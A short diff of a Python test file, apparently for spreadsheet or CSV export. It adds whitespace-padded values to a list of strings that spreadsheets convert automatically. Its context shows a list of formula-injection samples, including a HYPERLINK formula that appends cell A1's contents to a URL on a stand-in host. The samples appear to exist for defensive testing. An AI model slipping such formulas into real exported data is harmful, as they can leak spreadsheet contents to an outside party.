@@ -18,7 +18,7 @@ from tests.producers.tables import COLUMNS, incident, mapping, opened, refused, 
 TURNED = [
     "0052260012345", "007", "123456789012345678", "5.22E+12", "1E5", "1,204", "1.50", "£5", "12%",
     "04/03/2026", "04/03/2026 21:15", "2016-03", "03/2016", "1-2", "1/2", "4 March 2026", "MAR1",
-    "Sept 5", "2026-03-04T21:15:00Z", "21:15", "9:15 pm", "TRUE", "false",
+    "Sept 5", "2026-03-04T21:15:00Z", "21:15", "9:15 pm", "TRUE", "false", "0 ", " 12",
 ]  # fmt: skip
 FORMULAS = [
     '=HYPERLINK("http://x.example/?"&A1,"click")', "+44 117 496 0140", "-1+1", "@SUM(1+1)",
